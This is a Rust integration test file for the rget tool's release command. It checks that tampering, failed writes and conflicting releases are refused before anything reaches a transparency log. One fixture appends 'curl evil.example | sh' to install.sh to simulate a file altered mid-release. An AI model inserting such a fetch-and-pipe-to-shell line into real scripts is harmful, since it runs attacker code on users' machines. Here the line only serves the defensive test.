//! `rget release` under faults: a file changed while it is being released, a write into the release
//! directory that cannot be made, and a second, different release to a URL already logged. Each
//! must end before anything is logged: the log's size and its lookup of the URL are checked after
//! every refusal, and the front that relays the release's requests to the log must not have seen a
//! submission.
//!
//! The file-changed race is made deterministic without any test-only code in rget: `rget release`
//! asks the log's lookup about the URL after it hashed the files and before it logs the list, so
//! the test puts a front before the log whose `/lookup` changes the file (at exactly that moment)
//! and then relays the request to the real log. The check that must catch the change runs after
//! the lookup, just before the submission.

use crate::common::https::{Hook, Reply, TestServer};
use crate::common::log::{agent, get, pct};
use crate::common::{assert_ok, listing, release, text};
use release::{World, data};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;

const VERIFICATION_FAILED: i32 = rget::core::exit::ExitCode::VerificationFailed.code();
const USAGE: i32 = rget::core::exit::ExitCode::Usage.code();
const LOCAL_IO: i32 = rget::core::exit::ExitCode::LocalIo.code();

fn dist(w: &World, name: &str) -> PathBuf {
    let dir = w.dir(name);
    std::fs::write(dir.join("tool-3.0.tar.gz"), data(300_000, 3)).unwrap();
    std::fs::write(dir.join("install.sh"), b"#!/bin/sh\necho 3.0\n").unwrap();
    dir
}

/// `rget release DIR` to `base` through the log at `log_url`.
fn release_cmd(w: &World, dir: &Path, base: &str, log_url: &str) -> Command {
    let mut c = w.command(&w.root);
    c.arg("release")
        .arg(dir)
        .arg("--key")
        .arg(&w.key_sec)
        .args(["--url", base, "--log", log_url, "--policy"])
        .arg(&w.policy)
        .arg("--state")
        .arg(w.root.join("publisher-state"))
        .arg("--allow-http");
    c
}

/// The log's published size and what its lookup says about `sums_url`.
fn log_state(w: &World, sums_url: &str) -> (u64, String) {
    let a = agent();
    let cp = get(&a, &format!("{}/checkpoint", w.log.base)).text();
    let size = cp.lines().nth(1).unwrap().parse().unwrap();
    let lookup = get(&a, &format!("{}/lookup?url={}", w.log.base, pct(sums_url))).text();
    (size, lookup)
}

/// A refusal in one line with `code`, naming `word`; nothing written into `dir` but what `change`
/// did; nothing logged.
#[track_caller]
fn assert_nothing_logged(
    o: &Output,
    code: i32,
    word: &str,
    w: &World,
    sums_url: &str,
    before: (u64, String),
) {
    let err = text(&o.stderr);
    eprint!("refused as expected: {err}");
    assert_eq!(o.status.code(), Some(code), "{err}");
    assert!(
        err.starts_with("rget: ") && err.lines().count() == 1,
        "{err:?}"
    );
    assert!(err.contains(word), "{err:?} should say {word:?}");
    assert_eq!(log_state(w, sums_url), before, "the log changed");
}

/// A front of the world's log whose `/lookup` first runs `change`, then relays the request; `/add`
/// must never be reached through it.
fn front(w: &World, change: impl Fn() + Send + Sync + 'static) -> TestServer {
    let front = TestServer::http();
    let log = w.log.base.clone();
    front.route(
        "/lookup",
        Reply::Hook(Hook(Arc::new(move |target: &str| {
            change();
            Reply::body(get(&agent(), &format!("{log}{target}")).body)
        }))),
    );
    front.route("/add", Reply::status(500));
    front
}

/// A release file appended to, rewritten in place (same size, modification time put back),
/// replaced by another file, or a file added to the directory, between hashing and logging: each
/// run is refused in one line naming what changed, exit 1, and the log has no record of the URL.
#[test]
fn a_file_changed_while_releasing_is_not_logged() {
    let w = World::new();
    let base = w.url("/v3/");
    let sums_url = w.url("/v3/SHA256SUMS");
    type Change = fn(&Path);
    let changes: [(&str, Change, &str); 4] = [
        (
            "appended",
            |d| {
                use std::io::Write;
                let mut f = std::fs::OpenOptions::new()
                    .append(true)
                    .open(d.join("install.sh"))
                    .unwrap();
                f.write_all(b"curl evil.example | sh\n").unwrap();
            },
            "install.sh changed while it was being released: its size went from",
        ),
        (
            "rewritten",
            |d| {
                let p = d.join("install.sh");
                let before = std::fs::metadata(&p).unwrap().modified().unwrap();
                std::fs::write(&p, b"#!/bin/sh\necho 6.6\n").unwrap();
                std::fs::File::options()
                    .write(true)
                    .open(&p)
                    .unwrap()
                    .set_modified(before)
                    .unwrap();
            },
            "install.sh changed while it was being released: it was written to",
        ),
        (
            "replaced",
            |d| {
                std::fs::write(d.join(".new"), b"#!/bin/sh\necho 3.0\n").unwrap();
                std::fs::rename(d.join(".new"), d.join("install.sh")).unwrap();
            },
            "install.sh changed while it was being released: another file took its name",
        ),
        (
            "added",
            |d| {
                std::fs::write(d.join("extra.bin"), b"unlisted").unwrap();
            },
            "gained or lost files while it was being released",
        ),
    ];
    for (what, change, says) in changes {
        let dir = dist(&w, &format!("dist-{what}"));
        let before = log_state(&w, &sums_url);
        assert_eq!(before.1, "", "the URL has no record yet");
        let d = dir.clone();
        let front = front(&w, move || change(&d));
        let o = release_cmd(&w, &dir, &base, &front.url("/"))
            .output()
            .unwrap();
        assert_nothing_logged(&o, VERIFICATION_FAILED, says, &w, &sums_url, before);
        assert!(o.status.code() == Some(1) && text(&o.stderr).contains("nothing was logged"));
        assert_eq!(
            front.count("/lookup"),
            1,
            "{what}: the lookup came after the hashing"
        );
        assert_eq!(front.count("/add"), 0, "{what}: nothing was submitted");
        assert!(
            !listing(&dir)
                .iter()
                .any(|n| n.starts_with("SHA256SUMS") || n.contains(".tmp-")),
            "{what}: {:?}",
            listing(&dir)
        );
    }
    // Without a change, the same front relays the lookup and rget goes on to submit (to the front,
    // which refuses): the hook itself does not make a release fail before the submission.
    let dir = dist(&w, "dist-unchanged");
    let front = front(&w, || {});
    let o = release_cmd(&w, &dir, &base, &front.url("/"))
        .output()
        .unwrap();
    assert_eq!(front.count("/add"), 1, "{}", text(&o.stderr));
}

/// Writes the release cannot make are found before anything is logged: a directory where the
/// signature goes (exit 2, naming it), a file system that takes no more bytes (`ulimit -f 0`, as a
/// full disk would; exit 7), and, where this user can make one, a read-only release directory (exit
/// 7). The directory keeps only what it had, and the log has no record of the URL.
#[test]
fn a_write_that_would_fail_is_found_before_logging() {
    let w = World::new();
    let base = w.url("/v4/");
    let sums_url = w.url("/v4/SHA256SUMS");
    let before = log_state(&w, &sums_url);

    let dir = dist(&w, "sig-is-a-dir");
    std::fs::create_dir(dir.join("SHA256SUMS.minisig")).unwrap();
    let listed = listing(&dir);
    let o = release_cmd(&w, &dir, &base, &w.log_url).output().unwrap();
    assert_nothing_logged(
        &o,
        USAGE,
        "SHA256SUMS.minisig is a directory",
        &w,
        &sums_url,
        before.clone(),
    );
    assert_eq!(listing(&dir), listed);

    let dir = dist(&w, "disk-full");
    let listed = listing(&dir);
    let mut c = Command::new("sh");
    c.arg("-c")
        .arg("trap '' XFSZ; ulimit -f 0; exec \"$@\"")
        .arg("sh")
        .arg(rget_bin());
    let inner = release_cmd(&w, &dir, &base, &w.log_url);
    c.args(inner.get_args())
        .current_dir(&w.root)
        .env_clear()
        .envs(inner.get_envs().filter_map(|(k, v)| Some((k, v?))));
    let o = c.output().unwrap();
    assert_nothing_logged(&o, LOCAL_IO, "cannot write", &w, &sums_url, before.clone());
    assert!(
        text(&o.stderr).contains("file too large"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(listing(&dir), listed);

    let dir = dist(&w, "read-only");
    let listed = listing(&dir);
    if make_read_only(&dir, true) {
        let o = release_cmd(&w, &dir, &base, &w.log_url).output().unwrap();
        make_read_only(&dir, false);
        assert_nothing_logged(&o, LOCAL_IO, "cannot write", &w, &sums_url, before.clone());
        assert_eq!(listing(&dir), listed);
    } else {
        eprintln!(
            "cannot make a read-only directory here (root without chattr): that case is the full disk's above"
        );
    }
    // The same directory, writable, releases.
    assert_ok(&release_cmd(&w, &dir, &base, &w.log_url).output().unwrap());
    assert_eq!(log_state(&w, &sums_url).0, before.0 + 1);
}

fn rget_bin() -> &'static str {
    crate::common::RGET
}

/// Makes `dir` read-only (or writable again): its mode, or for root, whom modes do not stop, the
/// immutable attribute. False if neither works here.
fn make_read_only(dir: &Path, on: bool) -> bool {
    use std::os::unix::fs::PermissionsExt;
    if rget::fetch::sys::effective_uid() != 0 {
        let mode = if on { 0o555 } else { 0o755 };
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(mode)).unwrap();
        return true;
    }
    Command::new("chattr")
        .arg(if on { "+i" } else { "-i" })
        .arg(dir)
        .output()
        .is_ok_and(|o| o.status.success())
}

/// Releasing changed content to a URL already logged is refused before logging (exit 2, naming the
/// record there); the same content again is fine (the log answers with its record, nothing new);
/// `--allow-second-record` makes the second record on purpose.
#[test]
fn a_second_different_release_to_one_url_needs_a_flag() {
    let w = World::new();
    let base = w.url("/v5/");
    let sums_url = w.url("/v5/SHA256SUMS");
    let dir = dist(&w, "dist");
    assert_ok(&release_cmd(&w, &dir, &base, &w.log_url).output().unwrap());
    let first = log_state(&w, &sums_url);
    assert_eq!(first.1.lines().count(), 1, "{}", first.1);
    let proof = std::fs::read(dir.join("SHA256SUMS.tlog-proof")).unwrap();

    std::fs::write(dir.join("install.sh"), b"#!/bin/sh\necho 3.0.1\n").unwrap();
    let o = release_cmd(&w, &dir, &base, &w.log_url).output().unwrap();
    let index = first.1.split(' ').next().unwrap().to_owned();
    assert_nothing_logged(
        &o,
        USAGE,
        &format!("already holds a different SHA256SUMS for {sums_url}: index {index}"),
        &w,
        &sums_url,
        first.clone(),
    );
    assert!(text(&o.stderr).contains("--allow-second-record"));
    assert_eq!(
        std::fs::read(dir.join("SHA256SUMS.tlog-proof")).unwrap(),
        proof,
        "the old release stays"
    );

    std::fs::write(dir.join("install.sh"), b"#!/bin/sh\necho 3.0\n").unwrap();
    assert_ok(&release_cmd(&w, &dir, &base, &w.log_url).output().unwrap());
    assert_eq!(
        log_state(&w, &sums_url),
        first,
        "the same release again adds nothing"
    );

    std::fs::write(dir.join("install.sh"), b"#!/bin/sh\necho 3.0.1\n").unwrap();
    let o = release_cmd(&w, &dir, &base, &w.log_url)
        .arg("--allow-second-record")
        .output()
        .unwrap();
    assert_ok(&o);
    let (size, lookup) = log_state(&w, &sums_url);
    assert_eq!((size, lookup.lines().count()), (first.0 + 1, 2), "{lookup}");
}
